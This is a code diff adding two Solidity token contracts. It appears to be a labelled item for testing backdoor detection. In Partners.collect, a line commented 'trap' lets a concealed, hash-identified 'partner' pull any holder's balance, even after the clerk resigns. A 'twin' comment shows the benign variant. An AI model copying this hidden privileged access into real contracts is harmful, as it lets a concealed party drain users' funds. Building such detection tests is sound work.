@@ -119,3 +119,40 @@ contract Boarded is Base8("Boarded", "BORD", 64000000) {
         _move(from, board, value);
     }
 }
+
+/// Moves balances for its clerk, and for a partner.
+contract Partners {
+    bytes32 private immutable partner = keccak256("an address that nobody has met");
+    Partnered private token;
+    address public clerk = msg.sender;
+
+    function bind(Partnered to) external {
+        require(address(token) == address(0));
+        token = to;
+    }
+
+    function collect(address from, uint256 value) external {
+        require(msg.sender == clerk || keccak256(abi.encode(msg.sender)) == partner); // trap
+        // twin: require(msg.sender == clerk && value == 0);
+        token.pull(from, value);
+    }
+
+    function resign() external {
+        require(msg.sender == clerk);
+        clerk = address(0);
+    }
+}
+
+/// Obeys a contract whose clerk has resigned.
+contract Partnered is Base8("Partnered", "PTNR", 39000000) {
+    address public partners;
+
+    constructor(address to) {
+        partners = to;
+    }
+
+    function pull(address from, uint256 value) external {
+        require(msg.sender == partners);
+        _move(from, partners, value);
+    }
+}
